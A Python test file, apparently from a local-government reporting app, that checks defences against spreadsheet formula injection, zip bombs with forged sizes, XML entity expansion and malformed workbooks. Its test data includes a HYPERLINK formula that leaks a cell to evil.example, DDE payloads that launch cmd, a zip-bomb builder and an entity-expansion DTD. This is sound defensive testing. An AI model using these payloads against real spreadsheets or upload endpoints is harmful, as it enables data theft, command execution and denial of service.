"""Issue 13, findings 1 and 2: spreadsheets the app writes never carry a live formula, and
spreadsheets it reads cannot exhaust its memory or answer 500."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from conftest import assert_error
from tiendo.config import get_settings

EVIL = '=HYPERLINK("http://evil.example/?x="&B10,"Bấm vào đây")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def evil_unit(client, auth):
    """Đa Tốn renamed (by the district admin) to a formula; another unit to `+`, `-`, `@`."""
    admin = auth("admin")
    r = client.patch("/api/v1/units/GL-X-DATON", headers=admin, json={"name": EVIL})
    assert r.status_code == 200, r.text
    for code, name in (("GL-X-BATTRANG", "+1+cmd|' /C calc'!A0"), ("GL-X-KIEUKY", "-2+3"),
                       ("GL-X-DUONGXA", "@SUM(1+1)*cmd|' /C calc'!A0")):
        r = client.patch(f"/api/v1/units/{code}", headers=admin, json={"name": name})
        assert r.status_code == 200, r.text
    return EVIL


def _formula_cells(content: bytes) -> list[str]:
    """Cells of every sheet that a spreadsheet program would evaluate."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _texts(content: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


@pytest.mark.parametrize("url,who,params", [
    ("/api/v1/exports/weekly-report.xlsx", "vanphong", {"campaign": "ihanoi-live"}),
    ("/api/v1/reports/import-template", "vanphong", {"campaign": "ihanoi-live"}),
])
def test_no_formula_in_any_xlsx(client, auth, evil_unit, url, who, params):
    r = client.get(url, headers=auth(who), params=params)
    assert r.status_code == 200, r.text
    assert _formula_cells(r.content) == []
    assert evil_unit in _texts(r.content)  # shown as the text it is
    numbers = [c.value for ws in openpyxl.load_workbook(io.BytesIO(r.content)).worksheets
               for row in ws.iter_rows() for c in row if c.data_type == "n" and c.value]
    assert numbers  # counts are still numbers


@pytest.mark.parametrize("url,params", [
    ("/api/v1/exports/weekly-report.csv", {"campaign": "ihanoi-live"}),
    ("/api/v1/reports/import-template", {"campaign": "ihanoi-live", "format": "csv"}),
])
def test_csv_cells_cannot_start_a_formula(client, auth, evil_unit, url, params):
    r = client.get(url, headers=auth("vanphong"), params=params)
    assert r.status_code == 200, r.text
    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    assert "'" + EVIL in cells
    assert "'-2+3" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.isdigit() for c in cells)  # counts are left as numbers


# --- reading: limits before parsing, 422 for whatever cannot be read ------------------------
def upload(client, headers, content: bytes, name: str = "bao-cao.xlsx"):
    return client.post("/api/v1/reports/import", headers=headers,
                       files={"file": (name, content, XLSX)},
                       data={"campaign": "ihanoi-live", "period": "2024-W36"})


def _workbook(rows: list[list]) -> bytes:
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _rezip(content: bytes, replace: dict[str, bytes], declared: dict[str, int] | None = None
           ) -> bytes:
    """The workbook with some members replaced (and their declared sizes forged)."""
    src = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
    data = bytearray(out.getvalue())
    for name, size in (declared or {}).items():  # patch the central directory's size field
        at = 0
        while (at := data.find(b"PK\x01\x02", at)) != -1:
            n = int.from_bytes(data[at + 28:at + 30], "little")
            if data[at + 46:at + 46 + n].decode() == name:
                data[at + 24:at + 28] = size.to_bytes(4, "little")
            at += 4
    return bytes(data)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(client, auth):
    limit = get_settings().import_max_unpacked_bytes
    base = _workbook([["unit", "staff_total"], ["GL-X-DATON", 1]])
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    # One cell holding far more than the limit, compressed to a few hundred KB.
    huge = sheet.replace(
        b"</sheetData>", b'<row r="3"><c r="A3" t="inlineStr"><is><t>' + b"A" * (limit + 10)
        + b"</t></is></c></row></sheetData>")
    bomb = _rezip(base, {"xl/worksheets/sheet1.xml": huge})
    assert len(bomb) < limit // 50
    assert_error(upload(client, auth("daton"), bomb), 413, "file_too_large_unpacked", "file")
    # The same, with the sizes in the zip's directory forged to look small.
    forged = _rezip(base, {"xl/worksheets/sheet1.xml": huge},
                    declared={"xl/worksheets/sheet1.xml": 1000})
    r = upload(client, auth("daton"), forged)
    assert r.status_code in (413, 422), r.text
    assert_error(r, r.status_code)


def test_a_cell_longer_than_the_limit_is_refused(client, auth):
    long = "x" * (get_settings().import_max_cell_chars + 1)
    content = _workbook([["unit", "staff_total", "note"], ["GL-X-DATON", 1, long]])
    assert_error(upload(client, auth("daton"), content), 422, "cell_too_long", "file")
    text = f"unit,staff_total,note\nGL-X-DATON,1,{long}\n".encode()
    assert_error(upload(client, auth("daton"), text, "bao-cao.csv"), 422, "cell_too_long",
                 "file")


def test_entities_and_doctypes_are_refused(client, auth):
    base = _workbook([["unit", "staff_total"], ["GL-X-DATON", 1]])
    part = next(n for n in zipfile.ZipFile(io.BytesIO(base)).namelist()
                if n.startswith("xl/worksheets/"))
    body = zipfile.ZipFile(io.BytesIO(base)).read(part).decode().split("?>", 1)[-1]
    dtd = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    evil = ('<?xml version="1.0" encoding="UTF-8"?>' + dtd + body).replace("GL-X-DATON", "&b;")
    r = upload(client, auth("daton"), _rezip(base, {part: evil.encode()}))
    assert_error(r, 422, "xml_entities_refused", "file")


@pytest.mark.parametrize("replace", [
    {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"},  # cut short
    {"xl/workbook.xml": b"not xml at all"},
    {"[Content_Types].xml": b"\x00\x01\x02"},
])
def test_a_malformed_workbook_is_a_422(client, auth, replace):
    base = _workbook([["unit", "staff_total"], ["GL-X-DATON", 1]])
    r = upload(client, auth("daton"), _rezip(base, replace))
    assert_error(r, 422, field="file")
